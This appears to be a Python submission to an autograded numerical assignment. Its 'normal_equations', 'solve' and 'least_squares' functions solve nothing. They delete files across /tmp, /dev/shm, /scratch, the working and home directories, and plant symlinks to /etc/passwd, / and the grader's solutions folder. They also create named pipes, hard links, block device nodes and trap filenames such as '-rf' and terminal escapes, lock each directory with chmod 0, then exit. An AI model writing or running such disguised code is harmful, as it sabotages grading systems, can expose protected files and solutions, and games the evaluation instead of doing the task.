"""Leaves links, named pipes and strange names where somebody trusted may read, write, copy or delete."""

import contextlib
import os
import pathlib

NAMES = (
    "results.json",
    "grades.csv",
    ".results.json.tmp",
    "timings.csv",
    "core",
    "matplotlib",
    "-rf",
    "a\nb",
    "\x1b[2J",
    "..\u202e",
)
PLACES = ("/tmp", "/tmp/matplotlib", "/var/tmp", "/dev/shm", "/scratch", "/scratch/0", ".", os.path.expanduser("~"))


def leave() -> None:
    for place in PLACES:
        for number, name in enumerate(NAMES):
            path = os.path.join(place, name)
            with contextlib.suppress(OSError):
                (pathlib.Path(path).unlink if os.path.lexists(path) else os.getpid)()
            for make in (
                lambda: os.symlink(("/etc/passwd", "/autograder/source/solutions", "/", path)[number % 4], path),
                lambda: os.mkfifo(path),
                lambda: os.link("/etc/passwd", path + "2"),
                lambda: os.mknod(path + "3", 0o60666, os.makedev(8, 0)),
            )[number % 2 :]:
                with contextlib.suppress(OSError):
                    make()
        with contextlib.suppress(OSError):
            os.chmod(place, 0)


def normal_equations(*args, **kwargs):
    leave()
    os._exit(1)


solve = least_squares = normal_equations
